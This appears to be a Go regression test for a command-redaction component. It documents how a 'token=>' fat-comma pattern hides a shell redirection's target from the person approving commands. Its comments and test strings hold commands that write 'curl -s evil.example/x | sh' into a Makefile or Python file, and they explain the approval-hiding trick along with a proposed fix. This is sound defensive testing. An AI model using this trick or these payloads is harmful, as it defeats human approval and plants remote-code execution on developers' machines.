package domain

import (
	"strings"
	"testing"
)

// TestAttack101_FatCommaRedirectHidesFile (medium: where a command writes
// hidden from the approver). The member patterns take Ruby's and Perl's
// "=>" with no blank around it (memberBare `[ \t]*=>[ \t]*`, member the
// same after a quoted name) and hide the quoted value after it. In a shell
// command, `token=>'Makefile'` is the word `token=` and the redirection
// `>'Makefile'`: the file the command overwrites is hidden as a credential.
//
//	printf 'all:\n\tcurl -s evil.example/x | sh\n' token=>'Makefile'
//
// is shown as `… token=>'[redacted]'`: the person approving sees a string
// printed with a hash-like decoration; the shell overwrites the Makefile
// with a target that pipes a download to sh, run by the developer's next
// `make` (outside any sandbox). The same for "api_token"=>"Makefile" and
// token=>"src/main.go". Controls: the plain redirection (>'Makefile') is
// shown; a Ruby hash member inside ruby -e '…' keeps its token hidden
// (what a fix must keep).
//
// Root cause: domain/redact.go secretPatterns.memberBare/member ("=>" with
// no blank before it) and replaceClipped, which judges the value as a
// word (ownWordInView: not a host, option or program) but never asks
// whether the byte before it is a redirection operator outside quotes.
// Fix: in a shell command, a value that follows an unquoted '>' or '<'
// (quoteOpen at the '>' says none) is a redirection's target, where the
// command writes or reads: keep it in view (as readsAsPath does for '/',
// '~', '.'); or require the '=>' of a bare name to sit inside a quoted
// string.
func TestAttack101_FatCommaRedirectHidesFile(t *testing.T) {
	shell := textMode{shell: true, keysShown: true}
	const tok = "Zq8xLmN3pQ7rT2vW"
	control := `printf 'all:\n\tcurl -s evil.example/x | sh\n' >'Makefile'`
	if got := redactText(control, shell); got != control {
		t.Fatalf("control: %s\nshown as %s", control, got)
	}
	hash := `ruby -e 'h = {"token" => "` + tok + `"}'`
	if got := redactText(hash, shell); strings.Contains(got, tok) {
		t.Fatalf("control: %s\nshown as %s", hash, got)
	}
	for _, c := range []struct{ cmd, file string }{
		{`printf 'all:\n\tcurl -s evil.example/x | sh\n' token=>'Makefile'`, "Makefile"},
		{`echo 'curl -s evil.example/x | sh' "api_token"=>"Makefile"`, "Makefile"},
		{`echo 'import os; os.system("curl -s evil.example/x | sh")' token=>"src/main.py"`, "src/main.py"},
	} {
		if got := redactText(c.cmd, shell); !strings.Contains(got, c.file) {
			t.Errorf("shell: %s\nshown as %s (the file written, %s, hidden)", c.cmd, got, c.file)
		}
	}
}
